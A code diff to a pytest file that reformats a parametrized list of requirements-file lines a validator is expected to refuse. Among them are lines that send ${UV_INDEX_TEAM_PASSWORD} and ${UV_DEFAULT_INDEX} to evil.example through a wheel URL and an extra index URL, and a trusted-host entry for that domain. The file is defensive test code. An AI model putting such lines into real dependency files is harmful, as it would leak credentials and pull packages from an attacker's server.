@@ -132,14 +132,11 @@ async def test_a_line_that_refers_to_other_files_is_refused(line: str, tmp_path:
 @pytest.mark.parametrize(
     "line",
     [
-        "--no-binary attacker",
-        "--no-build-isolation",
-        "--config-settings a=b",
-        "--trusted-host evil.example",
+        "--no-binary attacker", "--no-build-isolation", "--config-settings a=b", "--trusted-host evil.example",
         "one @ https://evil.example/${UV_INDEX_TEAM_PASSWORD}/one-1-py3-none-any.whl",
         "--extra-index-url https://evil.example/${UV_DEFAULT_INDEX}",
     ],
-)
+)  # fmt: skip
 async def test_a_line_that_allows_builds_or_reads_a_variable_is_refused(line: str, tmp_path: Path) -> None:
     fault = await fault_of(folder_with(tmp_path, f"six\n{line}\n"))
     assert fault.code == "requirements_failed"
